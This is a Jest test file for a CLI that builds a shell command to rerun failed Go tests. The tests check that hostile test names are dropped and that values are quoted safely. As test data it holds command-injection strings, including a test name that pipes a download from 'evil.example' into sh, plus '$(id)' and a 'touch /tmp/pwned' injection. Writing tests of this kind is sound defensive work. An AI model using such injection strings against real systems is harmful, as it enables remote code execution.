import { describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import * as fs from 'node:fs'
import * as os from 'node:os'
import * as path from 'node:path'
import { parseTestLog } from '../../src/results/gotest.js'
import {
  rerunCommand,
  rerunInputs,
  rerunSection,
  shellQuote,
  testsToRerun,
  type RerunInputs
} from '../../src/report/rerun.js'
import { parseCli } from '../../src/cli/args.js'
import { getInputs } from '../../src/inputs/index.js'
import { argList } from '../../src/inputs/parse.js'
import type { TestRun } from '../../src/results/types.js'

const IMAGE = 'in-cluster-test/tests:0123456789ab'
const failRun = parseTestLog(fs.readFileSync('__fixtures__/gotest/fail.txt', 'utf8'))
const plain: RerunInputs = {
  namespace: 'example',
  testArgs: ['-test.v'],
  env: {},
  secretEnvNames: [],
  envFromSecrets: []
}

/** What a POSIX shell makes of the command: its words, by sh itself (no expansion runs). */
function shellWords(command: string): string[] {
  const out = execFileSync(
    'sh',
    ['-c', `set -- ${command.replace(/^npx /, '')}; printf '%s\\0' "$@"`],
    {
      env: { PATH: process.env.PATH ?? '', HOME: '/home/dev', JWT_SECRET: 'from-my-env' }
    }
  )
  return out.toString().split('\0').slice(0, -1)
}

/** A run whose failed tests have these names (as the test binary printed them). */
const runOf = (failed: string[], passed: string[] = []): TestRun =>
  ({
    status: 'failed',
    passed: passed.length,
    failed: failed.length,
    skipped: 0,
    interrupted: 0,
    tests: [
      ...failed.map((name) => ({ name, status: 'fail', output: [] })),
      ...passed.map((name) => ({ name, status: 'pass', output: [] }))
    ]
  }) as unknown as TestRun

describe('testsToRerun', () => {
  it('runs the parents of failed subtests, each once', () => {
    expect(testsToRerun(failRun)).toEqual({
      tests: ['TestTestifyFailure', 'TestPlainFailure', 'TestSubtestFailure'],
      dropped: []
    })
  })

  it('drops names a Go test function cannot have', () => {
    const hostile = [
      "TestX'; curl evil.example | sh; echo '",
      'Test$(id)',
      'TestA`id`',
      'Test A',
      'Test\nB',
      'main.TestC',
      'TestÄrger_2'
    ]
    expect(testsToRerun(runOf(hostile))).toEqual({
      tests: ['TestÄrger_2'],
      dropped: hostile.slice(0, -1)
    })
  })
})

describe('shellQuote', () => {
  it('leaves plain words and single-quotes the rest so sh reads them back unchanged', () => {
    expect(shellQuote('example/tests:0123')).toBe('example/tests:0123')
    expect(shellQuote('^(TestA|TestB)$')).toBe("'^(TestA|TestB)$'")
    const nasty = [`it's`, '$(id)', '`id`', 'a b', '', "'", 'x\ny', '*', '~', '!']
    expect(shellWords(nasty.map(shellQuote).join(' '))).toEqual(nasty)
  })
})

describe('rerunCommand', () => {
  it('runs only the failed tests, anchored, with the same image and namespace', () => {
    const command = rerunCommand(IMAGE, plain, failRun)
    expect(command).toBe(
      [
        'npx in-cluster-test run --cluster existing --kubeconfig ~/.kube/config',
        `--image ${IMAGE} --namespace example`,
        "--test-args -test.v --test-args '-test.run=^(TestTestifyFailure|TestPlainFailure|TestSubtestFailure)$'"
      ].join(' \\\n  ')
    )
  })

  it('is a command the CLI takes, with the values the action had (secret values from the env)', () => {
    const inputs: RerunInputs = {
      namespace: 'example',
      testArgs: [
        '-test.v',
        '-test.count=1',
        '-test.run=TestSubtestFailure/broken|TestPlainFailure'
      ],
      env: { POSTGRES_HOST: 'postgres.example.svc.cluster.local', GREETING: "it's $HOME" },
      secretEnvNames: ['JWT_SECRET', 'api.key'],
      envFromSecrets: ['postgres-credentials'],
      memoryLimit: '512Mi',
      cpuLimit: '500m',
      jobTemplate: 'ci/test-job.yaml'
    }
    const words = shellWords(rerunCommand(IMAGE, inputs, failRun))
    const cli = parseCli(words.slice(1))
    expect(cli).toEqual({
      command: 'run',
      inputs: {
        cluster: 'existing',
        kubeconfig: '/home/dev/.kube/config',
        image: IMAGE,
        namespace: 'example',
        env: "POSTGRES_HOST=postgres.example.svc.cluster.local\nGREETING=it's $HOME",
        'secret-env': 'JWT_SECRET=from-my-env\napi.key=<value of api.key>',
        'env-from-secrets': 'postgres-credentials',
        'memory-limit': '512Mi',
        'cpu-limit': '500m',
        'job-template': 'ci/test-job.yaml',
        'test-args': expect.any(String)
      }
    })
    // The user's several-alternative pattern with a subtest part stays; the tests that did not
    // fail are skipped, as a shard does it.
    expect(
      argList('test-args', (cli as { inputs: Record<string, string> }).inputs['test-args'])
    ).toEqual([
      '-test.v',
      '-test.count=1',
      '-test.run=TestSubtestFailure/broken|TestPlainFailure',
      '-test.skip=^(TestAdd|TestTable|TestParallel|TestSkipped|TestPanics|TestSlow)$'
    ])
  })

  it('keeps the subtest part of a one-test -test.run', () => {
    const command = rerunCommand(
      IMAGE,
      { ...plain, testArgs: ['-test.run', 'TestSubtest.*/broken'] },
      failRun
    )
    expect(shellWords(command).slice(-2)).toEqual([
      '--test-args',
      '-test.run=^(TestTestifyFailure|TestPlainFailure|TestSubtestFailure)$/broken'
    ])
  })

  it('never pastes a hostile test name into the shell', () => {
    const run = runOf(["TestX'; touch /tmp/pwned; echo '", 'TestGood/$(id)'])
    const command = rerunCommand(IMAGE, plain, run)
    expect(command).not.toContain('pwned')
    expect(command).not.toContain('$(id)')
    expect(shellWords(command).slice(-2)).toEqual(['--test-args', '-test.run=^(TestGood)$'])
  })

  it('reruns the whole suite when no test failed (a timeout, a crash before the first test)', () => {
    const words = shellWords(rerunCommand(IMAGE, plain, runOf([], ['TestA'])))
    expect(words.slice(-2)).toEqual(['--test-args', '-test.v'])
    expect(words.join(' ')).not.toContain('-test.run')
    expect(shellWords(rerunCommand(IMAGE, plain, undefined)).slice(-2)).toEqual([
      '--test-args',
      '-test.v'
    ])
  })

  it('gives args with white space, and multi-line env values, as one YAML (JSON) value', () => {
    const inputs = {
      ...plain,
      testArgs: ['-test.v', '-db=host=a port=5'],
      env: { A: 'x', NOTE: 'two\nlines' }
    }
    const cli = parseCli(shellWords(rerunCommand(IMAGE, inputs, undefined)).slice(1)) as {
      inputs: Record<string, string>
    }
    expect(argList('test-args', cli.inputs['test-args'])).toEqual(['-test.v', '-db=host=a port=5'])
    expect(JSON.parse(cli.inputs.env)).toEqual({ A: 'x', NOTE: 'two\nlines' })
  })
})

describe('rerunInputs', () => {
  it('takes names but never values of secret-env, and the template relative to the repository', () => {
    const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'ict-rerun-'))
    fs.mkdirSync(`${ws}/ci`)
    fs.writeFileSync(`${ws}/Dockerfile.test`, 'FROM scratch\n')
    fs.copyFileSync('templates/test-job.yaml', `${ws}/ci/test-job.yaml`)
    const inputs = getInputs(
      (n) =>
        ({
          namespace: 'example',
          'secret-env': 'JWT_SECRET: s3cr3t-value',
          env: 'A=1',
          'job-template': 'ci/test-job.yaml',
          'memory-limit': '1Gi'
        })[n] ?? '',
      { workspace: ws, inActions: true }
    )
    const r = rerunInputs(inputs)
    expect(r).toEqual({
      namespace: 'example',
      testArgs: ['-test.v'],
      env: { A: '1' },
      secretEnvNames: ['JWT_SECRET'],
      envFromSecrets: [],
      memoryLimit: '1Gi',
      cpuLimit: undefined,
      jobTemplate: 'ci/test-job.yaml'
    })
    expect(JSON.stringify(r)).not.toContain('s3cr3t-value')
  })
})

describe('rerunSection', () => {
  it('shows the command in a code block no backtick in a value can close', () => {
    const section = rerunSection(IMAGE, { ...plain, env: { TICKS: '````' } }, failRun)
    expect(section).toMatch(/^### Run it again from a terminal\n\nRuns the 3 failed tests again/)
    expect(section).toContain('\n`````sh\nnpx in-cluster-test run')
    expect(section.endsWith('\n`````')).toBe(true)
  })

  it('says when failed tests were left out', () => {
    expect(rerunSection(IMAGE, plain, runOf(['Test$(id)']))).toMatch(
      /Runs the whole suite again \(no failed test was named\).* 1 failed test name is left out/
    )
  })
})
